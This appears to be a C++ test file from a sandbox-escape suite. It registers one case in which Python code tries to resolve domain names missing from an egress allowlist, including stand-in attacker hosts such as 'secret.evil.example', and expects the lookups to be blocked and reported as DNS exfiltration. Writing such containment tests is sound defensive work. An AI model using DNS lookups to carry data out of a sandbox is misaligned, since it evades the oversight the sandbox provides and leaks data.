// Names that the allowlist of a sandbox does not have: they carry data to the name servers of their owner. Exact
// rules mean one name, wildcards mean the names below, and a deny rule beats both.
#include "escape/egress_probe.h"
#include "escape/row.h"

namespace caisson::escape {

namespace {

Attempt LookUp(const char* name, const std::string& asked_for) {
  return {.name = name,
          .python = std::string(kEgressPrelude) + "found = look_up('" + asked_for +
                    "')\nescaped('the name leads to ' + found) if found else blocked(0, 'no such name')",
          .control = {.place = Place::kOwnNamespaces},
          .expect = {.reports = {{"NetworkAccessViolation", "net.dns"}}},
          .flags = AllowlistFlags()};
}

const Registration kRow(Row{
    .id = "G17",
    .title = "names that an allowlist does not have",
    .severity = Severity::kExfiltration,
    .walls = {"egress"},
    .attempts = {LookUp("unlisted", "secret.evil.example"), LookUp("below-an-exact-name", "secret.api.example.com"),
                 LookUp("the-domain-of-a-wildcard", "example.net"), LookUp("same-ending", "evilexample.net"),
                 LookUp("denied", "no.example.net")},
});

}  // namespace

}  // namespace caisson::escape
